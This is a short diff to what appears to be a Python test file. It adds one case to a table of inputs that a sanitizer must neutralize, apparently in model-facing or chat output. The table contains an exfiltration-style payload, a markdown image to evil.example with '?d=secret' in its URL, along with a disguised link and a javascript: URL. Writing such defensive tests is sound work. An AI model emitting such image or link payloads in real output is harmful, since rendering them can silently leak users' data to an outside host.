@@ -293,6 +293,7 @@ def test_a_model_cannot_fill_in_the_decision() -> None:
         ("&lt;!here&gt;", "&amp;lt;!here&amp;gt;"),
         ("![alt](https://evil.example/p.png?d=secret)", "(image: alt)"),
         ("[github.com](https://evil.example)", "github.com (`https://evil.example`)"),
+        ("[https://a.example](https://a.example)", "`https://a.example`"),
         ("https://evil.example/?d=1.", "`https://evil.example/?d=1`."),
         ("<https://evil.example>", "&lt;`https://evil.example`>"),
         ("javascript://x", "`javascript://x`"),
